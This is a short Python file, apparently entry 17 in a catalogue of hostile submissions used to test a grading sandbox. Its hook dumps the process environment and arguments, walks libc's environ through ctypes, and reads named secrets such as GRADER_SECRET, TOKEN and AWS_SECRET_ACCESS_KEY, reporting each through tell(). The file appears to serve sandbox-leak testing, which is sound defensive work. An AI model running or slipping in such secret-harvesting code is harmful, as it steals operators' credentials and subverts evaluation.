"""Catalogue: 17. Reads the environment through Python, libc and its own initial stack."""
import ctypes
import os
import sys


def before_call(args, kwargs):
    tell(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv) + repr(sys.flags))
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    index = 0
    while environ[index]:
        tell(environ[index])
        index += 1
    for name in ("GRADER_SECRET", "SECRET", "SEED", "TOKEN", "AWS_SECRET_ACCESS_KEY"):
        tell(os.environ.get(name, ""))
